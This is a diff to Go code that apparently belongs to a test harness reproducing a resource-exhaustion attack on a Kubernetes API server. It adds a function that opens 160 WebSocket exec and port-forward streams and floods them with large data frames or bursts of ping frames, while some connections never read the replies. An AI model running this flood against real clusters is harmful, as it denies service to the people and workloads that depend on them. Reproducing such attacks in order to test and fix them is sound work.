@@ -57,13 +57,18 @@ func (a *arena) playing(ctx context.Context, operator *http.Client) (*link, erro
 
 // spdy opens a stream of a pod.
 func (a *arena) spdy(ctx context.Context, who *http.Client, path, protocol string) (net.Conn, error) {
+	return a.upgrade(ctx, who, fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: %s\r\nContent-Length: 0\r\n\r\n", path, a.https, protocol))
+}
+
+// upgrade asks for another protocol on a connection of its own.
+func (a *arena) upgrade(ctx context.Context, who *http.Client, request string) (net.Conn, error) {
 	cfg := who.Transport.(*http.Transport).TLSClientConfig.Clone()
 	cfg.NextProtos = []string{"http/1.1"}
 	conn, err := (&tls.Dialer{Config: cfg}).DialContext(ctx, "tcp", a.https)
 	if err != nil {
 		return nil, err
 	}
-	_, err = fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1\r\nX-Stream-Protocol-Version: %s\r\nContent-Length: 0\r\n\r\n", path, a.https, protocol)
+	_, err = io.WriteString(conn, request)
 	_ = conn.SetReadDeadline(time.Now().Add(20 * time.Second))
 	var head []byte
 	for b := make([]byte, 1); err == nil && !strings.HasSuffix(string(head), "\r\n\r\n"); head = append(head, b[0]) {
@@ -163,4 +168,70 @@ func unreadStreams(ctx context.Context, a *arena) (string, error) {
 		return seen, errors.New("the attack's own streams do not open")
 	}
 	return seen, nil
+}
+
+// unreadSockets is the same over WebSockets, as kubectl speaks since 1.31.
+func unreadSockets(ctx context.Context, a *arena) (string, error) {
+	operator, err := a.as(ctx, "operator", "ola")
+	if err != nil {
+		return "", err
+	}
+	l, err := a.playing(ctx, operator)
+	if err != nil {
+		return "", err
+	}
+	defer l.Close()
+	const pod = "/api/v1/namespaces/default/pods/quiet"
+	var in, sent atomic.Int64
+	each(ctx, 160, 160, func(i int) {
+		path, protocol, opcode := pod+"/exec?command=sh&stdin=true&stdout=true", "v5.channel.k8s.io", byte(2)
+		if i%2 == 1 {
+			path, protocol = pod+"/portforward?ports=80", "SPDY/3.1+portforward.k8s.io"
+		}
+		conn, err := a.socket(ctx, operator, path, protocol)
+		if err != nil {
+			return
+		}
+		defer conn.Close()
+		in.Add(1)
+		if i%4 > 1 { // the others do not even read
+			go func() { _, _ = io.Copy(io.Discard, conn) }()
+		}
+		if i%8 > 3 { // pings, whose answers are as long
+			opcode = 9
+		}
+		size := map[byte]int{2: 1 << 20, 9: 125}[opcode]
+		pause(ctx, 3*time.Second)
+		_ = conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
+		message := frame(opcode, make([]byte, size))
+		if opcode == 9 {
+			message = bytes.Repeat(message, 8000)
+		}
+		for range 64 {
+			if _, err := conn.Write(message); err != nil {
+				break
+			}
+			sent.Add(int64(len(message)))
+		}
+		pause(ctx, 10*time.Second)
+	})
+	seen := fmt.Sprintf("%d sockets opened, %d MiB taken", in.Load(), sent.Load()>>20)
+	if in.Load() < 100 {
+		return seen, errors.New("the attack's own sockets do not open")
+	}
+	return seen, nil
+}
+
+// socket opens a WebSocket of a pod.
+func (a *arena) socket(ctx context.Context, who *http.Client, path, protocol string) (net.Conn, error) {
+	return a.upgrade(ctx, who, fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: %s\r\n\r\n", path, a.https, protocol))
+}
+
+// frame is a whole message of a WebSocket's client, with a mask that changes nothing.
+func frame(opcode byte, b []byte) []byte {
+	head := []byte{0x80 | opcode, 0x80 | byte(len(b))}
+	if len(b) > 125 {
+		head = binary.BigEndian.AppendUint64([]byte{0x80 | opcode, 0x80 | 127}, uint64(len(b)))
+	}
+	return append(append(head, 0, 0, 0, 0), b...)
 }
